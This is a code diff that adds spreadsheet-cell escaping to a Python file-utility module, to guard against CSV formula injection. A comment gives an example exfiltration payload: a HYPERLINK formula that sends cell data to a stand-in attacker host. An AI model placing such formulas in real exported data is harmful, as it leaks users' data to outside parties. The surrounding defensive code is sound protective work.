@@ -13,6 +13,7 @@ renamed into place the same way.
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import tempfile
 from contextlib import contextmanager
@@ -89,3 +90,28 @@ def atomic_folder(final: Path | str, replace: bool = False) -> Iterator[Path]:
         os.replace(scratch, final)
     finally:
         shutil.rmtree(scratch, ignore_errors=True)
+
+
+# --- cells a spreadsheet opens ----------------------------------------------------------------
+
+# A cell starting with one of these runs as a formula in a spreadsheet (OWASP "CSV injection"):
+# `=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")` in a product name would.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")
+
+
+def spreadsheet_cell(value: object) -> object:
+    """`value` safe to open in a spreadsheet: text starting like a formula (or with the quote
+    this adds) gets a leading `'`, which shows as text; a plain number ("-0.035") is left alone.
+    `from_spreadsheet_cell` undoes it exactly."""
+    if isinstance(value, str) and value and (value[0] in _FORMULA_START or value[0] == "'") \
+            and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def from_spreadsheet_cell(text: str) -> str:
+    """The text `spreadsheet_cell` was given: one leading `'` dropped where it added one."""
+    if text[:1] == "'" and len(text) > 1 and (text[1] in _FORMULA_START or text[1] == "'"):
+        return text[1:]
+    return text
